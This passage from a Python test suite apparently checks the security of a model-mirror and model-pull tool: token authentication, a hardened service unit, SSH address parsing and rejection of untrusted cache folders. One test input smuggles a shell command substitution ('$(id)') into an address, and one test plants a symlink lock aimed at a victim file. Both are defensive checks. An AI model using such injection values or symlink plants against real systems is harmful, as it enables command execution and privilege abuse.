            connection.putheader("Authorization", f"Bearer {token}")
        connection.endheaders(body)
        response = connection.getresponse()
        result = response.status, response.getheader("Connection"), response.read()
        connection.close()
        return result

    try:
        for length, status in (("-1", 400), ("abc", 400), ("1e3", 400), ("", 400),
                               ("\u00b2", 400), (str(10**12), 413), ("65537", 413)):
            started = time.monotonic()
            assert post(length)[:2] == (status, "close"), length
            assert post(length, token=None)[:2] == (status, "close"), length
            assert time.monotonic() - started < 3, length
        body = b"paths=config.json"
        answered = post(str(len(body)), body)
        assert answered[0] == 200 and [e["path"] for e in json.loads(answered[2])] == [
            "config.json"]
        padded = body + b"&x=" + b"y" * (64 * 1024 - len(body) - 3)
        assert len(padded) == 64 * 1024 and post(str(len(padded)), padded)[0] == 200
    finally:
        served.close()


def test_mirror_script_refuses_to_start_without_a_token_and_serves_with_one(tmp_path):
    cache = tmp_path / "cache"
    make_repo(cache, "org/model", COMMIT, FILES_A)
    script = str(PROGRAMS / "mirror.py")
    env = {"PATH": os.environ["PATH"]}
    refused = subprocess.run([sys.executable, script, "--cache", str(cache), "--port", "0"],
                             capture_output=True, text=True, env=env, timeout=30)
    assert refused.returncode == 1
    assert "no token in $CREDENTIALS_DIRECTORY/mirror-token" in refused.stderr
    credentials = tmp_path / "credentials"
    credentials.mkdir()
    (credentials / "mirror-token").write_text(MIRROR_TOKEN + "\n")
    proc = subprocess.Popen([sys.executable, script, "--cache", str(cache), "--port", "0"],
                            stdout=subprocess.PIPE, text=True,
                            env={**env, "CREDENTIALS_DIRECTORY": str(credentials)})
    try:
        port = int(proc.stdout.readline().split()[-1])
        import urllib.error
        import urllib.request

        url = f"http://127.0.0.1:{port}/api/rigbook/manifest/org/model/{COMMIT}"
        with pytest.raises(urllib.error.HTTPError, match="401"):
            urllib.request.urlopen(url, timeout=10)
        request = urllib.request.Request(url, headers={"Authorization": f"Bearer {MIRROR_TOKEN}"})
        with urllib.request.urlopen(request, timeout=10) as response:
            assert json.loads(response.read())["revision"] == COMMIT
        assert MIRROR_TOKEN not in " ".join(proc.args)
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_mirror_unit_template():
    from rigbook.core.render import render
    from rigbook.roles.models import MIRROR_SCRIPT, MIRROR_TEMPLATE

    text = render(MIRROR_TEMPLATE, cache="/var/lib/rigbook/hf/hub", bind="10.0.0.5", port=8090,
                  script=MIRROR_SCRIPT, token_path=MIRROR_TOKEN_PATH)
    assert ("ExecStart=/usr/bin/python3 /opt/rigbook/models/mirror.py --cache "
            "/var/lib/rigbook/hf/hub --host 10.0.0.5 --port 8090") in text.splitlines()
    assert f"LoadCredential={mirror.CREDENTIAL}:{MIRROR_TOKEN_PATH}" in text.splitlines()
    for line in ("DynamicUser=yes", "ReadOnlyPaths=-/var/lib/rigbook/hf/hub", "UMask=0077",
                 "ProtectSystem=strict", "CapabilityBoundingSet=", "PrivateUsers=yes"):
        assert line in text.splitlines(), line
    assert "\nUser=" not in text and "0.0.0.0" not in text


def test_ssh_address_fact_and_the_mirror_check():
    from rigbook.core.checks import Facts, run_checks
    from rigbook.roles.models import CHECKS, NO_MIRROR_ADDRESS, SshAddress, parse_ssh_address

    assert parse_ssh_address(["10.0.3.1 51234 10.0.3.7 22"]) == "10.0.3.7"
    assert parse_ssh_address(["::1 51234 ::ffff:10.0.3.7 22"]) == "10.0.3.7"
    assert parse_ssh_address(["2001:db8::1 5 2001:DB8::2 22"]) == "2001:db8::2"
    for output in ([], ["fe80::1 5 fe80::2%eth0 22"], ["x y $(id) 22"], ["10.0.3.7"]):
        assert parse_ssh_address(output) is None, output
    # sudo drops SSH_CONNECTION (env -i here): the fact finds it up the process tree
    command = SshAddress().command()
    ssh = {**os.environ, "SSH_CONNECTION": "10.0.3.1 5 10.0.3.7 22"}
    found = subprocess.run(["sh", "-c", 'env -i sh -c "$0"', command], capture_output=True,
                           text=True, env=ssh)
    assert found.stdout.split() == ["10.0.3.1", "5", "10.0.3.7", "22"]

    cfg = rig(models_mirror_port=8090, models_mirror_token_file="t")
    assert run_checks(cfg, "rig1", CHECKS, Facts(ssh_address="10.0.3.7")) == []
    (finding,) = run_checks(cfg, "rig1", CHECKS, Facts(ssh_address=None))
    assert (finding.level, finding.key, finding.reason) == ("error", "models_mirror_bind",
                                                            NO_MIRROR_ADDRESS)
    bound = rig(models_mirror_port=8090, models_mirror_token_file="t",
                models_mirror_bind="10.0.0.5")
    assert run_checks(bound, "rig1", CHECKS, Facts()) == []  # nothing to read


# --- a cache another user could change (issue 29, finding 7) -----------------------------------


@pytest.mark.parametrize("plant", ["link", "engine-owned"])
def test_pull_follows_no_link_and_refuses_a_cache_another_user_can_change(
        hf_python, hub, tmp_path, plant):
    """pull.py runs as root. A lock it opens in the cache, planted as a link by a user who can
    write there (the engine's, with the cache in its home), made root create a file elsewhere.
    Now a link outside the snapshots, or a folder of another user, refuses the pull before it
    writes anything; and every file it writes is opened without following a link."""
    if os.geteuid() != 0 and plant == "engine-owned":
        pytest.skip("giving a folder to another user needs root")
    cache, repo, victim = tmp_path / "hub", tiny_repo(), tmp_path / "victim"
    locks = cache / ".locks"
    locks.mkdir(parents=True)
    (locks / f"rigbook-{repo_folder(repo.repo_id)}.lock").symlink_to(victim)
    if plant == "engine-owned":
        (locks / f"rigbook-{repo_folder(repo.repo_id)}.lock").unlink()
        os.chown(locks, 65534, 65534)
    rc, result, proc = run_pull(hf_python, hub, cache, repo)
    assert (rc, result["status"]) == (2, "refused"), proc.stderr
    why = ("is a link where the cache has none" if plant == "link"
           else f"{locks} belongs to uid 65534")
    assert why in result["message"] and "allowed: a cache only root can write" in (
        result["message"])
    assert not victim.exists() and not (cache / repo_folder(repo.repo_id)).exists()
    assert requests(hub) == []  # refused before connecting to anything


def test_pull_opens_no_link_it_writes_through(tmp_path):
    """The open itself: a link where a lock or a download goes is an error, not followed."""
    pull = load_pull()
    victim, lock = tmp_path / "victim", tmp_path / "x.lock"
    lock.symlink_to(victim)
    with pytest.raises(OSError) as raised:
        open(lock, "a", opener=pull.no_follow)
    assert raised.value.errno == errno.ELOOP and not victim.exists()
    (tmp_path / "taken.incomplete").write_bytes(b"")
    with pytest.raises(FileExistsError):
        open(tmp_path / "taken.incomplete", "wb", opener=pull.new_file)


def test_the_preflight_refuses_a_cache_the_engines_user_can_write(tmp_path):
    """On the rig: the cache fact says who could change the cache, and the models check
    refuses it with the key (a path under another user's folder, or open to others' writes)."""
    cache = tmp_path / "hub"
    make_repo(cache, "org/model", COMMIT, FILES_A)
    assert read_cache(cache).untrusted is None
    spec = {"repo": "org/model", "revision": COMMIT}
    (cache / "models--org--model" / "snapshots").chmod(0o777)
    state = read_cache(cache)
    assert state.untrusted == (f"{cache}/models--org--model/snapshots is writable by others "
                               "(mode 0777)")
    (finding,) = [f for f in model_findings(rig(models=[spec]), Facts(cache=state), "rig1")
                  if f.key == "models_cache"]
    assert finding.level == "error" and "allowed: a folder only root can write" in (
        finding.message("rig1"))
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    if os.geteuid() == 0:
        os.chown(home, 65534, 65534)  # the engine's user's home, say
        assert read_cache(home / "hub").untrusted == f"{home} belongs to uid 65534"
    assert parse_cache('{"cache": "/c", "exists": false, "repos": []}').untrusted == (
        "the cache probe did not say who can write the cache")  # an old probe: fail closed


def test_a_cache_in_a_users_folder_is_refused_before_connecting():
    from rigbook.core.spec import USER_WRITABLE
    from rigbook.roles.serving import SERVE_HOME

    assert SERVE_HOME in USER_WRITABLE
    for path in (f"{SERVE_HOME}/hub", "/home/alice/hf", "/run/user/1000/hub"):
        with pytest.raises(RigbookError, match="models_cache: .*which another user"):
            rig(models_cache=path)
    assert rig(models_cache="/srv/hf").models_cache == "/srv/hf"


def test_a_gguf_recipes_repo_is_pulled_for_its_file_only():
    """Issue 33 (2): unsloth/Qwen3.6-27B-GGUF holds every quantisation; the llama.cpp recipe
    serves one file, and the models role pulls only that one (the rig's own patterns win)."""
    from rigbook.core.pins import engine_venv

    gguf = "unsloth/Qwen3.6-27B-GGUF"
    cfg = rig(platform="ubuntu", gpu_class="rtx3090", gpu_count=1, recipe="qwen36-27b-llamacpp",
              venvs=[engine_venv("llama-cpp-python")],
              models=[{"repo": gguf, "revision": COMMIT}, {"repo": "org/b", "revision": OTHER}])
    pulled, other = selected(cfg)
    assert pulled.allow_patterns == ("Qwen3.6-27B-UD-Q3_K_XL.gguf",) and other.allow_patterns == ()
    text = pull_command(pulled, cfg).get_raw_value()
    assert "--allow=Qwen3.6-27B-UD-Q3_K_XL.gguf" in text and text.count("--allow=") == 1
    assert [spec for spec, _ in wanted_models(cfg, "rig1")] == [pulled, other]
    own = rig(**{**cfg.model_dump(exclude_defaults=True), "models": [
        {"repo": gguf, "revision": COMMIT, "ignore_patterns": ["*.md"]}]})
    assert selected(own)[0].allow_patterns == ()  # the rig's own patterns, as written
